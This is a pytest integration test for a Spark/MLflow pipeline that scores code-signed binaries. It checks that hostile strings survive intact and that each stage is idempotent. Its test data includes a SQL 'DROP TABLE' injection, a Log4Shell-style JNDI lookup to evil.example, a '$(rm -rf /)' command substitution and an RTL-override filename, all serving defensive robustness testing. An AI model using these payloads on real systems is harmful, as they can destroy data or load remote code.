"""ingest -> features -> train -> score on a tiny generated fleet plus hand-made events whose strings are hostile.

Checks that attacker-controlled strings (path, host and subject names, ``pe`` fields) come out byte for byte
in bronze and gold/scored_binaries, that every stage run again on the same input leaves identical tables
(whole contents, not counts), and that scoring uses the version the configured registry holds under the alias.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from mlflow.tracking import MlflowClient
from pyspark.sql import SparkSession
from pyspark.sql import functions as F

from codesign_prevalence.config import load_config
from codesign_prevalence.jobs import features, ingest, score, train
from codesign_prevalence.jobs.context import JobContext
from codesign_prevalence.simulator import generate_fleet
from codesign_prevalence.storage import (
    BRONZE_EVENTS,
    BRONZE_QUARANTINE,
    GOLD_CANDIDATES,
    GOLD_HASH_PREVALENCE,
    GOLD_SCORED,
    GOLD_SIGNER_PREVALENCE,
    SILVER_RULE_MATCHES,
)

END = dt.date(2026, 11, 26)
MODEL = "reliability_iforest"
FEATURE_TABLES = (SILVER_RULE_MATCHES, GOLD_HASH_PREVALENCE, GOLD_SIGNER_PREVALENCE, GOLD_CANDIDATES)
# Columns of gold/scored_binaries that legitimately differ between two scorings with the same model.
SCORED_RUN_COLUMNS = ("scored_at",)

HOSTILE = (
    "O'Brien \"Quoted\" Ltd'; DROP TABLE gold.scored_binaries; --",
    "`backtick` ${jndi:ldap://evil.example/a} ${spark.sql.warehouse.dir} $(rm -rf /) %s {0} \\N \\' \\\"",
    "Ünïcödé 日本語 🙂 עברית \u202eexe.txt\u200b Ω≈ç√",
    "control \t tab \r\n newline \x01\x7f and NUL \x00 end",
    "Long" + "x" * 5000 + "';--",
)


def hostile_event(index: int, text: str) -> dict[str, object]:
    """A process start of a binary seen once, whose every attacker-controlled string holds ``text``."""
    return {
        "@timestamp": f"{END.isoformat()}T10:{index:02d}:00Z",
        "event": {"category": ["process"], "type": ["start"], "id": f"hostile-{index}"},
        "host": {"id": f"hostile-host-{index}", "name": f"host {text}"},
        "user": {"name": f"user {text}"},
        "process": {
            "executable": f"C:\\Users\\Public\\{text}\\payload.exe",
            "name": "payload.exe",
            "parent": {"executable": "C:\\Windows\\System32\\cmd.exe", "name": "cmd.exe"},
            "hash": {"sha256": hostile_sha256(index)},
            "pe": {"original_file_name": f"{text}.exe", "company": f"company {text}"},
            "code_signature": {
                "exists": True,
                "trusted": False,
                "status": "errorExpired",
                "subject_name": f"subject {text}",
            },
        },
    }


def hostile_sha256(index: int) -> str:
    return hashlib.sha256(f"hostile-{index}".encode()).hexdigest()


def write_hostile_events(path: Path) -> Path:
    lines = [json.dumps(hostile_event(i, text), ensure_ascii=i % 2 == 0) for i, text in enumerate(HOSTILE)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def table_rows(spark: SparkSession, root: Path, table: str, drop: tuple[str, ...] = ()) -> list[str]:
    """The whole table, every column but ``drop``, as a sorted list of row reprs (NaN equals NaN)."""
    frame = spark.read.format("delta").load(str(root / table)).drop(*drop)
    return sorted(repr(row) for row in frame.collect())


@dataclass(frozen=True)
class Pipeline:
    root: Path
    inputs: list[str]
    context: JobContext
    tables: dict[str, list[str]]


def context_for(spark: SparkSession, root: Path) -> JobContext:
    overrides = [f"storage.root={root}", f"model.name={MODEL}", "model.n_estimators=50"]
    return JobContext(config=load_config(None, overrides), verbosity=0, _spark=spark)


@pytest.fixture(scope="module")
def pipeline(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pipeline]:
    base = tmp_path_factory.mktemp("reliability")
    fleet = generate_fleet(base / "fleet", hosts=15, days=3, seed=3, end_date=END, events_per_host_day=40)
    inputs = [str(fleet.events_path), str(write_hostile_events(base / "hostile.ndjson"))]
    root = base / "lake"
    mlflow_env = pytest.MonkeyPatch()
    mlflow_env.delenv("MLFLOW_TRACKING_URI", raising=False)
    mlflow_env.delenv("MLFLOW_REGISTRY_URI", raising=False)
    context = context_for(spark, root)
    ingest.run(context, inputs)
    features.run(context, END)
    train.run(context, END)
    score.run(context, END, "champion")
    tables = {
        table: table_rows(spark, root, table)
        for table in (BRONZE_EVENTS, BRONZE_QUARANTINE, *FEATURE_TABLES)
    }
    tables[GOLD_SCORED] = table_rows(spark, root, GOLD_SCORED, drop=SCORED_RUN_COLUMNS)
    yield Pipeline(root, inputs, context, tables)
    mlflow_env.undo()


def test_hostile_strings_come_out_unchanged(spark: SparkSession, pipeline: Pipeline) -> None:
    bronze = spark.read.format("delta").load(str(pipeline.root / BRONZE_EVENTS))
    scored = spark.read.format("delta").load(str(pipeline.root / GOLD_SCORED))
    for index, text in enumerate(HOSTILE):
        event = bronze.where(F.col("event_id") == F.lit(f"hostile-{index}")).collect()
        assert len(event) == 1, f"hostile event {index} not in bronze"
        expected = {
            "host_name": f"host {text}",
            "user_name": f"user {text}",
            "executable": f"C:\\Users\\Public\\{text}\\payload.exe",
            "cs_subject_name": f"subject {text}",
            "pe_original_file_name": f"{text}.exe",
            "pe_company": f"company {text}",
        }
        assert {key: event[0][key] for key in expected} == expected
        rows = scored.where(F.col("sha256") == F.lit(hostile_sha256(index))).collect()
        assert {row["population"] for row in rows} == {"rule", "hunt"}, f"hostile binary {index} not scored"
        for row in rows:
            assert row["subject_name"] == f"subject {text}"
            assert row["example_path"] == f"C:\\Users\\Public\\{text}\\payload.exe"
            assert row["example_host"] == f"host {text}"
            assert row["host_names"] == [f"host {text}"]
            assert row["rule_match"] is True


def test_scored_rows_come_from_the_configured_registry_and_alias(spark: SparkSession, pipeline: Pipeline) -> None:
    client = MlflowClient(tracking_uri=f"sqlite:///{pipeline.root}/mlflow/mlflow.db")
    champion = client.get_model_version_by_alias(MODEL, "champion")
    scored = spark.read.format("delta").load(str(pipeline.root / GOLD_SCORED))
    used = {tuple(row) for row in scored.select("model_name", "model_version", "mlflow_run_id").distinct().collect()}
    assert used == {(MODEL, str(champion.version), champion.run_id)}


def test_ingest_twice_leaves_identical_tables(spark: SparkSession, pipeline: Pipeline) -> None:
    report = ingest.run(pipeline.context, pipeline.inputs)
    assert report.accepted == 0 and report.duplicates > 0 and report.balanced
    for table in (BRONZE_EVENTS, BRONZE_QUARANTINE):
        assert table_rows(spark, pipeline.root, table) == pipeline.tables[table], table


def test_features_twice_leaves_identical_tables(spark: SparkSession, pipeline: Pipeline) -> None:
    features.run(pipeline.context, END)
    for table in FEATURE_TABLES:
        assert table_rows(spark, pipeline.root, table) == pipeline.tables[table], table


def test_score_twice_leaves_identical_rows_apart_from_scored_at(spark: SparkSession, pipeline: Pipeline) -> None:
    before = spark.read.format("delta").load(str(pipeline.root / GOLD_SCORED)).agg(F.max("scored_at")).head()
    score.run(pipeline.context, END, "champion")
    assert table_rows(spark, pipeline.root, GOLD_SCORED, drop=SCORED_RUN_COLUMNS) == pipeline.tables[GOLD_SCORED]
    after = spark.read.format("delta").load(str(pipeline.root / GOLD_SCORED)).agg(F.min("scored_at")).head()
    assert before is not None and after is not None and after[0] > before[0]  # every row was rewritten


def test_train_again_then_score_by_alias(spark: SparkSession, pipeline: Pipeline) -> None:
    """A second train adds version 2 as challenger; scoring follows the alias it is given, and scoring with
    champion again restores the first rows exactly (the MERGE replaces, never appends)."""
    second = train.run(pipeline.context, END)
    assert (second.model_version, second.aliases) == ("2", ("challenger",))
    score.run(pipeline.context, END, "challenger")
    versions = spark.read.format("delta").load(str(pipeline.root / GOLD_SCORED)).select("model_version").distinct()
    assert [row[0] for row in versions.collect()] == ["2"]
    score.run(pipeline.context, END, "champion")
    assert table_rows(spark, pipeline.root, GOLD_SCORED, drop=SCORED_RUN_COLUMNS) == pipeline.tables[GOLD_SCORED]
